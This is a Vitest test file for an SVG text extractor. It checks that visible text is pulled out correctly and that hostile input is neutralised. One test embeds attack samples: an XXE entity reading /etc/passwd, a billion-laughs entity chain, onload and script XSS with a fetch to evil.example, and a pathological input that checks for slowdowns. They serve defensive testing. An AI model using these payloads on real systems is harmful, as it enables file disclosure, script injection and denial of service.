import { describe, expect, it } from 'vitest';
import { extractSvgText } from './svg-text';

describe('extractSvgText', () => {
  it('reads text, tspan, textPath, title and desc, one line per element', () => {
    const svg = `<?xml version="1.0"?>
<svg xmlns="http://www.w3.org/2000/svg" width="400" height="200">
  <title>Portfolio chart</title>
  <desc>Allocation &amp; growth, 2025 &#x2192; 2030</desc>
  <rect width="10" height="10" data-label="a > b"/>
  <text x="10" y="20">Equities <tspan font-weight="bold">62%</tspan></text>
  <text><textPath href="#p">Bonds 30%</textPath></text>
  <g><text><![CDATA[Cash <8%>]]></text></g>
  <!-- <text>commented out</text> -->
</svg>`;
    expect(extractSvgText(svg)).toBe(
      [
        'Portfolio chart',
        'Allocation & growth, 2025 → 2030',
        'Equities 62%',
        'Bonds 30%',
        'Cash <8%>',
      ].join('\n'),
    );
  });

  it('never includes scripts and never resolves entities', () => {
    const svg = `<?xml version="1.0"?>
<!DOCTYPE svg [
  <!ENTITY xxe SYSTEM "file:///etc/passwd">
  <!ENTITY lol "lol">
  <!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
]>
<svg xmlns="http://www.w3.org/2000/svg" onload="document.title='PWNED-ONLOAD'">
  <script>document.write('PWNED-SCRIPT'); fetch('http://evil.example/x');</script>
  <script type="text/ecmascript"><![CDATA[ alert('PWNED-CDATA') ]]></script>
  <text>Secret: &xxe; and &lol2;</text>
  <text>Visible <script>PWNED-NESTED</script>line</text>
  <foreignObject><div>PWNED-HTML</div></foreignObject>
</svg>`;
    const text = extractSvgText(svg);
    expect(text).toBe('Secret: &xxe; and &lol2;\nVisible line');
    expect(text).not.toContain('PWNED');
    expect(text).not.toContain('root:');
    expect(text).not.toContain('lollol');
  });

  it('stays linear on hostile input', () => {
    const hostile =
      '<svg><text>' + '<a '.repeat(50_000) + '"'.repeat(50_001) + '&lt;'.repeat(100_000);
    const started = performance.now();
    extractSvgText(hostile);
    expect(performance.now() - started).toBeLessThan(2000);
  });
});
